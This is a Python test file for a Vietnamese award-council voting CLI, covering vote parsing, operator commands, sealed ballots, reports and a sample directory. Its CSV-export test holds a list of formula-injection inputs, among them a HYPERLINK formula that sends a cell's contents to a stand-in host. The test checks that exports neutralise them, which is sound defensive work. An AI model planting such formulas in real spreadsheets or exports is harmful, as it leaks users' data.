"""The operator's and council member's commands: ``tdkt vote``'s words, the printed result of a sitting and
a year's statistics, the sample directory, and what each command sends to ``review`` (through a fake
proxy: the broker is not what these tests are about).

Long because it holds every operator and member command's output and failures, over one fake service.
"""
import base64
import csv
import io
import json
from collections import Counter
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from nacl.public import PrivateKey, SealedBox

from shared.cli import reports
from shared.cli.commands import main
from shared.cli.reports import ChoiceError, parse_choices
from shared.contract.ballots import receipt_code
from shared.contract.errors import Conflict, ValidationError

SAMPLE = Path(__file__).resolve().parents[2] / "deploy" / "directory.sample.yml"
RESULT = {"sitting_id": "s-1", "council_id": "hd-vp", "status": "closed", "members": 7, "participants": 7,
          "written_opinions": 1, "quorum_met": True, "items": [
              {"nomination_id": "n-1", "award_code": "CSTDCS", "nominee_name": "Nguyễn Thị Hằng",
               "unit_id": "vp", "approve": 6, "reject": 1, "abstain": 0, "required": 6,
               "outcome": "approved", "reasons": []},
              {"nomination_id": "n-22", "award_code": "LDTT", "nominee_name": "Lê Văn An", "unit_id": "vp",
               "approve": 3, "reject": 2, "abstain": 2, "required": 4, "outcome": "rejected",
               "reasons": ["3/7 approvals, 4 required"]}]}
STATS = {"award_year": 2025, "by_award": {"LDTT": {"approved": 12, "proposed": 0, "rejected": 1},
                                          "CSTDCS": {"approved": 3, "proposed": 2, "rejected": 0}},
         "by_unit": {"vp": {"approved": 9, "proposed": 1, "rejected": 1},
                     "tccb": {"approved": 6, "proposed": 1, "rejected": 0}},
         "by_gender": {"female": 8, "male": 9}, "direct_workers": 2, "total": 18}


def tdkt(*args, **env):
    return CliRunner().invoke(main, list(args), env=env, prog_name="tdkt")


# tdkt vote: the words after the options

def test_each_verdict_applies_to_the_ids_after_it_until_the_next_verdict():
    words = "approve n1 n2 reject n3 abstain n4 n5".split()

    assert parse_choices(words) == {"n1": "approve", "n2": "approve", "n3": "reject", "n4": "abstain",
                                    "n5": "abstain"}


def test_a_verdict_may_be_given_again_later():
    assert parse_choices("approve n1 reject n2 approve n3".split()) == {
        "n1": "approve", "n2": "reject", "n3": "approve"}


@pytest.mark.parametrize("words, problem, word", [
    ("", "no_choices", None),
    ("n1 approve n2", "id_first", "n1"),
    ("approve reject n1", "no_ids", "approve"),
    ("approve n1 reject", "no_ids", "reject"),
    ("approve n1 reject n1", "twice", "n1"),
    ("approve n1 n1", "twice", "n1"),
])
def test_malformed_vote_words_are_refused_naming_the_fault(words, problem, word):
    with pytest.raises(ChoiceError) as caught:
        parse_choices(words.split())

    assert (caught.value.problem, caught.value.word) == (problem, word)


def test_a_blank_id_is_refused():
    with pytest.raises(ChoiceError, match="blank"):
        parse_choices(["approve", " "])


def test_a_vote_naming_an_id_twice_is_a_usage_error_in_the_chosen_language():
    vietnamese = tdkt("vote", "--token", "t", "approve", "n1", "reject", "n1")
    english = tdkt("vote", "--token", "t", "--lang", "en", "approve", "n1", "reject", "n1")

    assert vietnamese.exit_code == english.exit_code == 2
    assert "hồ sơ n1 được nêu hơn một lần" in vietnamese.stderr
    assert "nomination n1 is given twice" in english.stderr


@pytest.mark.parametrize("args, message", [
    (["--token", "t"], "cần ít nhất một lựa chọn"),
    (["--token", "t", "approve"], "sau approve cần ít nhất một mã hồ sơ"),
    (["approve", "n1"], "Missing option '--token'"),
])
def test_a_vote_without_ids_or_without_a_token_is_a_usage_error(args, message):
    result = tdkt("vote", *args, TDKT_BALLOT_TOKEN=None)

    assert result.exit_code == 2
    assert "Usage: tdkt vote" in result.stderr and message in result.stderr


# operator commands: argument errors are caught before anything is sent

@pytest.mark.parametrize("args", [
    ["sitting", "convene", "hd-vp"],
    ["sitting", "convene", "hd-vp", "--deadline", "2030-01-05T17:00:00+07:00", "--working-days", "5"],
    ["sitting", "convene", "hd-vp", "--deadline", "2030-01-05T17:00:00"],
    ["sitting", "convene", "hd-vp", "--deadline", "next friday"],
    ["sitting", "convene", "hd-vp", "--working-days", "0"],
    ["sitting", "tie", "s-1", "CSTDCS"],
    ["nomination", "return", "n-1"],
    ["report"],
    ["report", "--year", "năm nay"],
])
def test_an_operator_command_with_bad_arguments_is_a_usage_error(args, fake_review):
    result = tdkt(*args)

    assert result.exit_code == 2, result.output
    assert fake_review.calls == []


def test_a_deadline_without_a_time_zone_is_refused_with_an_example():
    result = tdkt("sitting", "convene", "hd-vp", "--deadline", "2030-01-05T17:00", "--lang", "en")

    assert result.exit_code == 2
    assert "is not an ISO 8601 time with a zone (e.g. 2025-11-30T17:00:00+07:00)" in result.stderr


def test_a_directory_file_that_is_not_yaml_sends_nothing(tmp_path, fake_review):
    path = tmp_path / "directory.yml"
    path.write_text("units: [ {id: vp\n", encoding="utf-8")

    result = tdkt("directory", "load", str(path))

    assert result.exit_code == 1
    assert f"{path}: không phải YAML hợp lệ" in result.stderr
    assert fake_review.calls == []


# what the commands send and print, through a fake review service

class FakeReview:
    """Stands in for ``shared.platform.client.rpc_proxy``: records ``(method, args, auth_token)`` of each call
    and answers from ``answers`` (a value, or an exception to raise); ``refuse`` fails to connect."""

    def __init__(self):
        self.calls, self.answers, self.refuse = [], {}, None

    def __call__(self, config, context_data, timeout):
        if self.refuse:
            raise self.refuse
        self.token = context_data["auth_token"]
        return self

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return False

    @property
    def review(self):
        return self

    def __getattr__(self, method):
        def call(*args):
            self.calls.append((method, args, self.token))
            answer = self.answers.get(method)
            if isinstance(answer, Exception):
                raise answer
            return answer
        return call


@pytest.fixture
def fake_review(monkeypatch):
    fake = FakeReview()
    monkeypatch.setattr("shared.platform.client.rpc_proxy", lambda amqp_uri, context_data=None, timeout=None:
                        fake({"AMQP_URI": amqp_uri}, context_data, timeout))
    return fake


@pytest.fixture
def sent_events(monkeypatch):
    """Events ``tdkt vote`` publishes, as ``(service, event_type, payload)``."""
    events = []

    class Publisher:
        def __init__(self, amqp_uri, service, passive=False):
            self.service = service
            assert passive, "a client must not declare a shared exchange"

        def __call__(self, event_type, payload, message_id, headers):
            events.append((self.service, event_type, payload))

    monkeypatch.setattr("shared.platform.client.EventPublisher", Publisher)
    return events


def test_loading_the_sample_directory_sends_it_whole_with_the_operator_token(fake_review):
    fake_review.answers["load_directory"] = {"units": 13, "councils": 13, "members": 99}

    result = tdkt("directory", "load", str(SAMPLE), TDKT_ADMIN_TOKEN="operator-token-0123456789")

    assert result.exit_code == 0, result.output
    assert fake_review.calls == [("load_directory", (yaml.safe_load(SAMPLE.read_text("utf-8")),),
                                  "operator-token-0123456789")]
    assert result.stdout == "Đã nạp danh mục: 13 đơn vị, 13 hội đồng, 99 thành viên\n"


def test_convening_in_working_days_sends_them_and_prints_the_sitting(fake_review):
    fake_review.answers["convene_sitting"] = {"sitting_id": "s-9", "agenda": ["n-1", "n-2"], "members": 7,
                                              "deadline": "2030-01-10T17:00:00+07:00"}

    result = tdkt("sitting", "convene", "hd-vp", "--working-days", "5", "--token", "cli-token",
                  "--lang", "en")

    assert fake_review.calls == [("convene_sitting", ("hd-vp", {"working_days": 5}), "cli-token")]
    assert result.stdout.splitlines() == ["Sitting s-9 convened", "Nominations on the agenda: 2",
                                          "Members given a ballot: 7",
                                          "Voting deadline: 2030-01-10T17:00:00+07:00"]


def test_returning_a_nomination_sends_every_reason(fake_review):
    result = tdkt("nomination", "return", "n-1", "--reason", "Thiếu biên bản", "--reason", "Sai năm")

    assert result.exit_code == 0
    assert fake_review.calls[0][:2] == ("return_nomination", ("n-1", ["Thiếu biên bản", "Sai năm"]))


def test_the_result_of_a_sitting_as_csv_keeps_the_contracts_names(fake_review):
    fake_review.answers["sitting_result"] = RESULT

    result = tdkt("sitting", "result", "s-1", "--csv")

    assert result.stdout.startswith(reports.BOM)
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix(reports.BOM))))
    assert [row["nomination_id"] for row in rows] == ["n-1", "n-22"]
    assert rows[1] == {"nomination_id": "n-22", "nominee_name": "Lê Văn An", "award_code": "LDTT",
                       "unit_id": "vp", "approve": "3", "reject": "2", "abstain": "2", "required": "4",
                       "outcome": "rejected", "reasons": "3/7 approvals, 4 required"}


def test_a_sitting_still_open_is_reported_as_a_conflict(fake_review):
    fake_review.answers["sitting_result"] = Conflict("the sitting is still open")

    result = tdkt("sitting", "result", "s-1")

    assert result.exit_code == 1
    assert result.stderr == "Error: Lỗi — Xung đột: the sitting is still open\n"


def test_a_refused_directory_lists_every_field_error(fake_review):
    fake_review.answers["load_directory"] = ValidationError(
        {"councils.0": ["a council has exactly one chair"],
         "units": {"1": {"email": ["Not a valid email address."]}}})

    result = tdkt("directory", "load", str(SAMPLE))

    assert result.exit_code == 1
    assert result.stderr.splitlines() == ["Error: Lỗi — Dữ liệu không hợp lệ:",
                                          "   - councils.0: a council has exactly one chair",
                                          "   - units.1.email: Không phải địa chỉ email hợp lệ."]


def test_no_answer_and_no_service_are_one_message_each(fake_review):
    from nameko.exceptions import RpcTimeout, UnknownService

    fake_review.answers["statistics"] = RpcTimeout()
    late = tdkt("report", "--year", "2025", "--timeout", "2", "--lang", "en")
    fake_review.answers["statistics"] = UnknownService("review")
    absent = tdkt("report", "--year", "2025")

    assert late.exit_code == absent.exit_code == 1
    assert late.stderr.startswith("Error: No answer within 2 seconds; the operation may still complete")
    assert absent.stderr == "Error: Dịch vụ xét duyệt (review) chưa chạy\n"


def test_a_broker_that_cannot_be_reached_is_one_message_without_the_password(fake_review):
    fake_review.refuse = ConnectionRefusedError(111, "Connection refused")

    result = tdkt("sitting", "close", "s-1", AMQP_URI="amqp://tdkt:secret@127.0.0.1:5999/")

    assert result.exit_code == 1
    assert result.stderr.splitlines() == ["Error: Không kết nối được tới RabbitMQ "
                                          "(amqp://tdkt:***@127.0.0.1:5999/): [Errno 111] Connection refused"]


def test_a_vote_sealed_to_the_sitting_key_is_published_with_nothing_in_clear_and_prints_its_receipt(sent_events):
    private = PrivateKey.generate()
    public = base64.b64encode(bytes(private.public_key)).decode()

    result = tdkt("vote", "--token", "ballot-1", "--key", public, "--written-opinion", "approve", "n1", "reject", "n2")

    assert result.exit_code == 0, result.output
    [(service, event_type, payload)] = sent_events
    assert (service, event_type, set(payload)) == ("council", "vote_cast", {"ballot_token", "sealed"})
    sealed = base64.b64decode(payload["sealed"])
    assert payload["ballot_token"] == "ballot-1"
    assert not any(word in sealed for word in (b"approve", b"reject", b'"n1"', b'"n2"', b"choices"))
    opened = json.loads(SealedBox(private).decrypt(base64.b64decode(payload["sealed"])))
    assert opened == {"choices": {"n1": "approve", "n2": "reject"}, "written_opinion": True}
    assert result.stdout.splitlines()[-1].endswith(receipt_code(payload["sealed"]))


@pytest.mark.parametrize("args, message", [
    ([], "cần --key"),
    (["--key", "k", "--unsealed"], "cần --key"),
    (["--key", "not-a-key"], "không phải khoá công khai"),
])
def test_a_vote_needs_the_sitting_key_or_says_it_goes_unsealed(sent_events, args, message):
    result = tdkt("vote", "--token", "ballot-1", *args, "approve", "n1", TDKT_BALLOT_KEY=None)

    assert result.exit_code == 2 and message in result.stderr and sent_events == []


def test_a_vote_is_published_as_the_council_service_and_not_awaited(sent_events):
    result = tdkt("vote", "--token", "ballot-1", "--unsealed", "--written-opinion", "approve", "n1", "n2", "reject",
                  "n3")

    assert result.exit_code == 0
    assert sent_events == [("council", "vote_cast", {
        "ballot_token": "ballot-1", "choices": {"n1": "approve", "n2": "approve", "n3": "reject"},
        "written_opinion": True})]
    assert result.stdout == "Đã gửi phiếu (3 hồ sơ)\n"


def test_a_vote_nobody_listens_for_says_review_is_not_running(monkeypatch):
    from shared.platform.outbox import Undeliverable

    def unroutable(self, *args):
        raise Undeliverable("vote_cast")

    monkeypatch.setattr("shared.platform.messaging.EventPublisher.__init__", lambda self, uri, service, passive=False: None)
    monkeypatch.setattr("shared.platform.messaging.EventPublisher.__call__", unroutable)

    result = tdkt("vote", "--token", "ballot-1", "--unsealed", "--lang", "en", "abstain", "n1")

    assert result.exit_code == 1
    assert result.stderr == "Error: The review service is not running: the vote was not sent\n"


# the printed result and statistics

def test_a_sitting_result_is_an_aligned_table_with_its_turnout_and_reasons():
    lines = reports.sitting_lines(RESULT, "vi")

    assert lines[:2] == ["Phiên họp s-1 — hội đồng hd-vp — đã đóng",
                         "Thành viên: 7; tham gia: 7 (ý kiến bằng văn bản: 1); đủ số lượng tham gia: có"]
    header, rule, first, second = lines[3:7]
    assert header.split("  ")[0] == "Mã hồ sơ" and "Không ý kiến" in header
    assert first.endswith("thông qua") and second.endswith("không thông qua")
    outcome_column = header.index("Kết quả")
    assert first.index("thông qua") == second.index("không thông qua") == outcome_column
    assert first.index("6  ") == second.index("3  ")  # counts align right under their heading
    assert lines[7:] == ["", "Lý do:", "   - n-22 (Lê Văn An): 3/7 approvals, 4 required"]


def test_decomposed_vietnamese_takes_as_many_columns_as_composed():
    composed, decomposed = "Nguyễn Thị Hằng", "Nguye\u0302\u0303n Thi\u0323 Ha\u0306\u0300ng"

    assert reports.width(decomposed) == reports.width(composed) == len(composed)
    assert reports.table(["Tên"], [[decomposed]])[2] == composed


def test_an_outcome_the_labels_do_not_know_is_shown_as_its_code():
    result = {**RESULT, "items": [{**RESULT["items"][0], "outcome": "deferred"}]}

    assert reports.sitting_lines(result, "vi")[5].endswith("deferred")


def test_statistics_in_english_list_awards_and_units_then_gender_direct_workers_and_total():
    lines = reports.statistics_lines(STATS, "en")

    assert lines[0] == "Award statistics for 2025 (decided nominations)"
    assert lines[2:7] == ["By award", "Code    Approved  Proposed  Rejected  Total",
                          "------  --------  --------  --------  -----",
                          "CSTDCS         3         2         0      5",
                          "LDTT          12         0         1     13"]
    assert lines[-3:] == ["By gender: female 8, male 9", "Direct workers: 2", "Decided nominations: 18"]


def test_statistics_as_csv_are_one_row_per_award_and_unit_then_the_counts():
    rows = list(csv.reader(io.StringIO(reports.statistics_csv(STATS).removeprefix(reports.BOM))))

    assert rows[0] == ["group", "key", "approved", "proposed", "rejected", "total"]
    assert rows[1:5] == [["award", "CSTDCS", "3", "2", "0", "5"], ["award", "LDTT", "12", "0", "1", "13"],
                         ["unit", "tccb", "6", "1", "0", "7"], ["unit", "vp", "9", "1", "1", "11"]]
    assert rows[5:] == [["gender", "female", "", "", "", "8"], ["gender", "male", "", "", "", "9"],
                        ["direct_workers", "", "", "", "", "2"], ["total", "", "", "", "", "18"]]


# the sample directory

@pytest.fixture(scope="module")
def sample():
    return yaml.safe_load(SAMPLE.read_text(encoding="utf-8"))


def test_the_sample_is_the_ministry_and_its_units_each_with_a_council(sample):
    units = {unit["id"]: unit for unit in sample["units"]}

    assert set(sample) == {"units", "councils"} and len(units) == len(sample["units"]) >= 13
    assert [uid for uid, unit in units.items() if not unit.get("parent")] == ["bo"]
    assert units["bo"]["name"] == "Bộ Nông nghiệp và Môi trường"
    assert all(unit.get("parent") in (None, *units) for unit in units.values())
    assert all(unit["email"].endswith("@example.vn") for unit in units.values())
    assert Counter(council["unit"] for council in sample["councils"]) == Counter(list(units))


def test_every_council_of_the_sample_has_a_known_unit_one_chair_and_valid_roles(sample):
    units = {unit["id"] for unit in sample["units"]}
    for council in sample["councils"]:
        roles = Counter(member["role"] for member in council["members"])
        assert council["unit"] in units
        assert set(roles) <= {"chair", "vice_chair", "member"}
        assert roles["chair"] == 1, council["id"]
        if council["level"] == "ministry":
            assert (council["unit"], len(council["members"])) == ("bo", 15) and roles["vice_chair"] <= 4
        else:
            assert council["level"] == "unit"
            assert len(council["members"]) == 7 and 1 <= roles["vice_chair"] <= 2


def test_member_ids_and_emails_of_the_sample_are_unique(sample):
    members = [member for council in sample["councils"] for member in council["members"]]

    assert len({member["id"] for member in members}) == len(members)
    assert len({member["email"] for member in members}) == len(members)
    assert all(member["email"].endswith("@example.vn") for member in members)
    assert [council["level"] for council in sample["councils"]].count("ministry") == 1


def test_the_sample_directory_passes_the_services_own_checks():
    import yaml

    from services.review.domain import directory_problems
    from shared.contract.schemas import Directory, load

    text = (Path(__file__).resolve().parents[2] / "deploy" / "directory.sample.yml").read_text("utf-8")
    directory = load(Directory(), yaml.safe_load(text), 4 * 1024 * 1024)
    assert directory_problems(directory, set()) == {}
    assert len(directory["units"]) == 13 and len(directory["councils"]) == 13


HOSTILE = ['=HYPERLINK("http://x.example/?"&A2,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("export", ["sitting", "statistics", "mail"])
def test_every_csv_export_opens_in_a_spreadsheet_as_utf8_text_without_formulas(export):
    if export == "sitting":
        text = reports.sitting_csv({"items": [{"nomination_id": f"n-{i}", "nominee_name": name, "award_code": "LDTT",
                                               "unit_id": "vp", "approve": 3, "reasons": [name]}
                                              for i, name in enumerate(HOSTILE)]})
    elif export == "statistics":
        text = reports.statistics_csv({"by_unit": {name: {"approved": 1} for name in HOSTILE}})
    else:
        text = reports.to_csv(["recipient", "last_error"], [[name, name] for name in HOSTILE])

    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for name in HOSTILE:
        assert "'" + name in cells  # kept whole, shown as text


def test_a_line_break_inside_a_csv_cell_stays_inside_that_cell():
    text = reports.to_csv(["name"], [["a\rb"], ["c\nd"], ["e\r\n=1+1"]])

    assert list(csv.reader(io.StringIO(text.removeprefix(reports.BOM), newline=""))) == [
        ["name"], ["a\rb"], ["c\nd"], ["e\r\n=1+1"]]


def test_a_csv_export_keeps_vietnamese_and_numbers_as_they_are():
    text = reports.to_csv(["name", "approve", "delta"], [["Nguyễn Thị Hương", 3, -1]])

    assert list(csv.reader(io.StringIO(text.removeprefix(reports.BOM)))) == [
        ["name", "approve", "delta"], ["Nguyễn Thị Hương", "3", "-1"]]
